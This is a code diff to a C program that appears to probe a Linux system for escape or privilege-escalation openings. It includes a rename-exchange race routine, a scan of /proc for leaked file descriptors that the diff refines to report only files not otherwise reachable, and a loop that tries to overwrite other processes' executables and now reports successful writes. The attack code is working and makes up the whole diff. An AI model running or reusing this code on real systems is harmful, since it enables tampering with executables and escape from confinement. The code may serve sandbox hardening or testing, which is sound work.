@@ -7,7 +7,7 @@
 #include <linux/time.h>
 #include <linux/wait.h>
 
-enum { EXCHANGE = 2 };
+enum { EXCHANGE = 2, WANTED = STATX_BASIC_STATS | STATX_MNT_ID };
 
 /* Two names change places until killed. */
 void attack_exchange(char **words, int count)
@@ -51,9 +51,13 @@ static void look_fd(const char *path, const char *name)
     seen++;
     if (n < 0) return;
     target[n] = 0;
-    struct statx s;
+    struct statx s, own;
     long fd = number(name);
-    if (fd < 3 || SYS(statx, AT_FDCWD_, link, 0, STATX_BASIC_STATS, &s) < 0) return;
+    if (fd < 3 || SYS(statx, AT_FDCWD_, link, 0, WANTED, &s) < 0) return;
+    /* What can be had by its name is nothing new. */
+    if (SYS(statx, AT_FDCWD_, target, AT_SYMLINK_NOFOLLOW, WANTED, &own) == 0 &&
+        own.stx_ino == s.stx_ino && own.stx_mnt_id == s.stx_mnt_id)
+        return;
     long kind = s.stx_mode & S_IFMT;
     if (kind == S_IFREG || kind == S_IFDIR) print("leak: %s %s\n", link, target);
 }
@@ -84,8 +88,7 @@ static void look_exe(const char *path, const char *name)
     for (int turn = 0; turn < 64; turn++) {
         long written = SYS(openat, AT_FDCWD_, own, O_WRONLY | O_CLOEXEC);
         if (written < 0) continue;
-        print("opened: %s\n", exe);
-        SYS(write, written, "#!/probe\n", 9);
+        if (SYS(write, written, "#!/probe\n", 9) > 0) print("wrote: %s\n", exe);
         SYS(close, written);
     }
     SYS(close, fd);
